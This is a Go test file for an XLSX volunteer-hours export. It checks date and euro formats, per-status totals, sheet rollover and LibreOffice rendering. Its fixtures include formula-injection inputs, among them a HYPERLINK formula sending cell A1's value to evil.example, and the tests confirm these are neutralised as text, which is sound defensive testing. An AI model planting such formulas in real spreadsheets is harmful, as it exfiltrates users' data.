package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/civisphere/civisphere/backend/domain"
	"github.com/xuri/excelize/v2"
)

func frHoursLabels() HoursWorkbookLabels {
	return HoursWorkbookLabels{
		Locale:          "fr",
		SheetName:       "Heures",
		TotalsSheetName: "Totaux",
		Headers: HoursWorkbookHeaders{Date: "Date", Volunteer: "Bénévole", Project: "Projet", Association: "Association",
			Sponsor: "Mécène", Skill: "Compétence", Hours: "Heures", Value: "Valeur", Status: "Statut"},
		Statuses: map[domain.HourStatus]string{domain.HoursPending: "en attente", domain.HoursApproved: "approuvée", domain.HoursRejected: "refusée"},
		Totals:   HoursTotalsLabels{Status: "Statut", Entries: "Saisies", Hours: "Heures", Value: "Valeur", Total: "Total"},
	}
}

const evilFormula = `=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`

func testHourRows() []HourRow {
	return []HourRow{
		{Date: "2026-03-03", Volunteer: "Élodie Œuvre-Besançon", Project: "Refonte du site", Association: "Œuvre-Besançon", Sponsor: "Fondation Ω", Skill: "Conception web", Minutes: 90, ValueCents: 6000, Status: domain.HoursApproved},
		{Date: "2026-03-04", Volunteer: "Łukasz Nowak", Project: evilFormula, Association: "Épicerie solidaire", Skill: "+cmd", Minutes: 20, Status: domain.HoursPending},
		{Date: "2026-03-05", Volunteer: "Ольга Иванова", Project: "-2+3", Association: "@SUM(A1)", Sponsor: "\tTab", Skill: "\rCR", Minutes: 45, ValueCents: 3000, Status: domain.HoursRejected},
		{Date: "2026-02-30", Volunteer: "Nguyễn Thị Hồng", Project: "Comptabilité", Association: "Épicerie solidaire", Minutes: 60, ValueCents: 4000, Status: domain.HoursApproved},
		{Date: "2026-03-07", Volunteer: "Ελένη Παπαδοπούλου", Project: "Comptabilité", Association: "Épicerie solidaire", Minutes: 30, ValueCents: 1250, Status: "disputed"},
	}
}

func hourSource(rows []HourRow) HourRowSource {
	i := 0
	return func() (HourRow, bool, error) {
		if i >= len(rows) {
			return HourRow{}, false, nil
		}
		i++
		return rows[i-1], true, nil
	}
}

// generatedHourSource yields n entries made up on the fly.
func generatedHourSource(n int) HourRowSource {
	i := 0
	statuses := domain.HourStatuses
	return func() (HourRow, bool, error) {
		if i >= n {
			return HourRow{}, false, nil
		}
		i++
		return HourRow{
			Date: fmt.Sprintf("2026-%02d-%02d", i%12+1, i%28+1), Volunteer: fmt.Sprintf("Bénévole n° %d", i%500),
			Project: fmt.Sprintf("Projet %d", i%40), Association: "Œuvre-Besançon", Sponsor: "Fondation Ω",
			Skill: "Comptabilité", Minutes: 30 + i%180, ValueCents: int64(2000 + i%4000), Status: statuses[i%len(statuses)],
		}, true, nil
	}
}

func writeHours(t testing.TB, src HourRowSource, labels HoursWorkbookLabels) ([]byte, int) {
	t.Helper()
	var buf bytes.Buffer
	n, err := WriteHoursXLSX(&buf, src, labels)
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), n
}

func rawFloat(t testing.TB, f *excelize.File, sheet, cell string) float64 {
	t.Helper()
	raw := cellValue(t, f, sheet, cell, excelize.Options{RawCellValue: true})
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatalf("%s!%s = %q is not a number", sheet, cell, raw)
	}
	return v
}

func checkNumberCell(t testing.TB, f *excelize.File, sheet, cell string, want float64) {
	t.Helper()
	typ, err := f.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeFormula {
		t.Errorf("%s!%s is of type %v, want a number", sheet, cell, typ)
	}
	if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
		t.Errorf("%s!%s holds the formula %q, want a plain number", sheet, cell, formula)
	}
	if got := rawFloat(t, f, sheet, cell); math.Abs(got-want) > 1e-9 {
		t.Errorf("%s!%s = %v, want %v", sheet, cell, got, want)
	}
}

func checkHeaderSheet(t testing.TB, f *excelize.File, data []byte, sheet string, sheetNo int, lastCol string, lastRow int) {
	t.Helper()
	panes, err := f.GetPanes(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("%s: panes = %+v, want the header row frozen", sheet, panes)
	}
	if hs := cellStyle(t, f, sheet, "A1"); hs.Font == nil || !hs.Font.Bold || hs.Fill.Type != "pattern" {
		t.Errorf("%s: the header is not bold and filled", sheet)
	}
	if lastCol == "" { // no autofilter wanted
		return
	}
	if x := sheetXML(t, data, sheetNo); !regexp.MustCompile(fmt.Sprintf(`<autoFilter ref="\$?A\$?1:\$?%s\$?%d"`, lastCol, lastRow)).MatchString(x) {
		t.Errorf("%s: no autofilter over A1:%s%d", sheet, lastCol, lastRow)
	}
}

func TestWriteHoursXLSX(t *testing.T) {
	data, n := writeHours(t, hourSource(testHourRows()), frHoursLabels())
	if n != 5 {
		t.Errorf("rows = %d, want 5", n)
	}
	f := openXLSX(t, data)
	if got := strings.Join(f.GetSheetList(), "|"); got != "Heures|Totaux" {
		t.Fatalf("sheets = %q", got)
	}
	const sheet = "Heures"
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 || strings.Join(rows[0], "|") != "Date|Bénévole|Projet|Association|Mécène|Compétence|Heures|Valeur|Statut" {
		t.Fatalf("rows = %q", rows)
	}
	checkHeaderSheet(t, f, data, sheet, 1, "I", 6)
	for col, want := range map[string]float64{"A": 12, "B": 24, "C": 32, "G": 10} {
		if w, _ := f.GetColWidth(sheet, col); w != want {
			t.Errorf("width of column %s = %v, want %v", col, w, want)
		}
	}

	// Dates are dates: a serial with a date format.
	if got := rawFloat(t, f, sheet, "A2"); got != 46084 { // 2026-03-03
		t.Errorf("A2 = %v, want the serial 46084", got)
	}
	if got := cellValue(t, f, sheet, "A2"); got != "03/03/2026" {
		t.Errorf("A2 shows %q", got)
	}
	if s := cellStyle(t, f, sheet, "A2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "dd/mm/yyyy" {
		t.Errorf("A2 format = %v", s.CustomNumFmt)
	}
	// An impossible date is kept as written, as text.
	if got := cellValue(t, f, sheet, "A5"); got != "2026-02-30" {
		t.Errorf("A5 = %q", got)
	}

	// Hours and value are numbers with their formats.
	checkNumberCell(t, f, sheet, "G2", 1.5)
	checkNumberCell(t, f, sheet, "H2", 60)
	checkNumberCell(t, f, sheet, "G3", 20.0/60)
	if got := cellValue(t, f, sheet, "G3"); got != "0.33" {
		t.Errorf("G3 shows %q, want 0.33", got)
	}
	if s := cellStyle(t, f, sheet, "G2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "0.00" {
		t.Errorf("G2 format = %v", s.CustomNumFmt)
	}
	if s := cellStyle(t, f, sheet, "H2"); s.CustomNumFmt == nil || !strings.Contains(*s.CustomNumFmt, "€") {
		t.Errorf("H2 format = %v, want euros", s.CustomNumFmt)
	}

	// Texts in every script; statuses in words, an unknown one as its code.
	for cell, want := range map[string]string{
		"B2": "Élodie Œuvre-Besançon", "E2": "Fondation Ω", "I2": "approuvée", "B3": "Łukasz Nowak", "I3": "en attente",
		"B4": "Ольга Иванова", "I4": "refusée", "B5": "Nguyễn Thị Hồng", "B6": "Ελένη Παπαδοπούλου", "I6": "disputed", "E3": "",
	} {
		if got := cellValue(t, f, sheet, cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
	}
	// Formula-looking text is neutralised and stays text.
	for cell, want := range map[string]string{"C3": "'" + evilFormula, "F3": "'+cmd", "C4": "'-2+3", "D4": "'@SUM(A1)", "E4": "'\tTab", "F4": "'\rCR"} {
		if got := cellValue(t, f, sheet, cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s type = %v, want an inline string", cell, typ)
		}
		if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
	}

	// Totals by status, then the total, as plain numbers.
	const totals = "Totaux"
	trows, err := f.GetRows(totals)
	if err != nil {
		t.Fatal(err)
	}
	if len(trows) != 6 || strings.Join(trows[0], "|") != "Statut|Saisies|Heures|Valeur" {
		t.Fatalf("totals = %q", trows)
	}
	checkHeaderSheet(t, f, data, totals, 2, "", 0)
	want := []struct {
		status        string
		entries       float64
		hours, values float64
	}{
		{"en attente", 1, 20.0 / 60, 0},
		{"approuvée", 2, 2.5, 100},
		{"refusée", 1, 0.75, 30},
		{"disputed", 1, 0.5, 12.5},
		{"Total", 5, 245.0 / 60, 142.5},
	}
	for i, w := range want {
		r := strconv.Itoa(i + 2)
		if got := cellValue(t, f, totals, "A"+r); got != w.status {
			t.Errorf("totals A%s = %q, want %q", r, got, w.status)
		}
		checkNumberCell(t, f, totals, "B"+r, w.entries)
		checkNumberCell(t, f, totals, "C"+r, w.hours)
		checkNumberCell(t, f, totals, "D"+r, w.values)
	}
	if s := cellStyle(t, f, totals, "C6"); s.Font == nil || !s.Font.Bold {
		t.Errorf("the total row is not bold")
	}
}

func TestWriteHoursXLSXEnglish(t *testing.T) {
	labels := frHoursLabels()
	labels.Locale = "en"
	labels.SheetName, labels.TotalsSheetName = "", ""
	labels.Headers = HoursWorkbookHeaders{}
	data, _ := writeHours(t, hourSource(testHourRows()[:1]), labels)
	f := openXLSX(t, data)
	if got := strings.Join(f.GetSheetList(), "|"); got != "Hours|Totals" {
		t.Fatalf("sheets = %q", got)
	}
	if got := cellValue(t, f, "Hours", "A2"); got != "2026-03-03" {
		t.Errorf("A2 shows %q", got)
	}
	if got := cellValue(t, f, "Hours", "A1"); got != "date" {
		t.Errorf("an empty title gives %q, want the API name", got)
	}
	if s := cellStyle(t, f, "Hours", "H2"); s.CustomNumFmt == nil || !strings.HasPrefix(*s.CustomNumFmt, `"€"`) {
		t.Errorf("H2 format = %v, want the euro sign first", s.CustomNumFmt)
	}
}

// Past the sheet's limit the rows go on in a new sheet with its own header; the totals count
// every row.
func TestWriteHoursXLSXRollover(t *testing.T) {
	defer func(old int) { maxDataRowsPerSheet = old }(maxDataRowsPerSheet)
	maxDataRowsPerSheet = 3
	data, n := writeHours(t, generatedHourSource(7), frHoursLabels())
	if n != 7 {
		t.Errorf("rows = %d", n)
	}
	f := openXLSX(t, data)
	if got := strings.Join(f.GetSheetList(), "|"); got != "Heures|Heures (2)|Heures (3)|Totaux" {
		t.Fatalf("sheets = %q", got)
	}
	for i, sheet := range []string{"Heures", "Heures (2)", "Heures (3)"} {
		rows, _ := f.GetRows(sheet)
		wantRows := []int{4, 4, 2}[i]
		if len(rows) != wantRows || rows[0][0] != "Date" {
			t.Errorf("%s: %d rows (header %q), want %d", sheet, len(rows), rows[0], wantRows)
		}
		checkHeaderSheet(t, f, data, sheet, i+1, "I", wantRows)
	}
	checkNumberCell(t, f, "Totaux", "B5", 7)
	if got := cellValue(t, f, "Heures (3)", "B2"); got != "Bénévole n° 7" {
		t.Errorf("the last sheet starts with %q", got)
	}
}

func TestWriteHoursXLSXEmptyAndClashingNames(t *testing.T) {
	labels := frHoursLabels()
	labels.TotalsSheetName = "HEURES"
	data, n := writeHours(t, hourSource(nil), labels)
	if n != 0 {
		t.Errorf("rows = %d", n)
	}
	f := openXLSX(t, data)
	if got := strings.Join(f.GetSheetList(), "|"); got != "Heures|HEURES (2)" {
		t.Fatalf("sheets = %q", got)
	}
	checkNumberCell(t, f, "HEURES (2)", "B5", 0)
	checkNumberCell(t, f, "HEURES (2)", "D5", 0)
}

func TestWriteHoursXLSXSourceError(t *testing.T) {
	stop := errors.New("export annulé")
	i := 0
	src := func() (HourRow, bool, error) {
		if i == 2 {
			return HourRow{}, false, stop
		}
		i++
		return testHourRows()[0], true, nil
	}
	var buf bytes.Buffer
	if _, err := WriteHoursXLSX(&buf, src, frHoursLabels()); !errors.Is(err, stop) {
		t.Errorf("err = %v, want the source's", err)
	}
	if buf.Len() != 0 {
		t.Errorf("%d bytes written despite the error", buf.Len())
	}
	if _, err := WriteHoursXLSX(failingWriter{}, hourSource(testHourRows()), frHoursLabels()); err == nil {
		t.Errorf("no error from a failing writer")
	}
}

func BenchmarkHoursXLSX(b *testing.B) {
	const n = 100_000
	labels := frHoursLabels()
	var size int64
	b.ReportAllocs()
	for b.Loop() {
		cw := &countingWriter{}
		if _, err := WriteHoursXLSX(cw, generatedHourSource(n), labels); err != nil {
			b.Fatal(err)
		}
		size = cw.n
	}
	b.ReportMetric(n, "rows/op")
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(size)/1e6, "MB/file")
}

// TestHoursXLSXOpensInLibreOffice converts the workbook with LibreOffice, as a person opening it
// would, and checks what its cells show: dates, hours, euros and the totals without any
// computing, and neutralised text as text.
func TestHoursXLSXOpensInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("soffice (LibreOffice) is not installed: run make deps (.ci/install-deps installs it)")
	}
	dir := t.TempDir()
	data, _ := writeHours(t, hourSource(testHourRows()), frHoursLabels())
	in := filepath.Join(dir, "heures.xlsx")
	if err := os.WriteFile(in, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	// As in TestXLSXOpensInLibreOffice: UTF-8 CSV, one file per sheet, cells as shown.
	runSoffice(t, soffice, dir, `csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1`, out, in)
	read := func(suffix string) [][]string {
		files, _ := filepath.Glob(filepath.Join(out, "*"+suffix))
		if len(files) != 1 {
			t.Fatalf("no CSV for %s among %q", suffix, files)
		}
		b, err := os.ReadFile(files[0])
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	hours := read("-Heures.csv")
	if len(hours) != 6 {
		t.Fatalf("LibreOffice sees %d rows: %q", len(hours), hours)
	}
	for i, want := range map[int]string{0: "03/03/2026", 1: "Élodie Œuvre-Besançon", 6: "1.50", 7: "60.00 €", 8: "approuvée"} {
		if got := hours[1][i]; got != want {
			t.Errorf("LibreOffice shows column %d of the first entry as %q, want %q", i, got, want)
		}
	}
	if got := hours[2][2]; got != "'"+evilFormula {
		t.Errorf("LibreOffice shows the formula-looking project as %q", got)
	}
	totals := read("-Totaux.csv")
	if len(totals) != 6 || strings.Join(totals[5], "|") != "Total|5|4.08|142.50 €" {
		t.Errorf("LibreOffice shows the totals as %q", totals)
	}
}
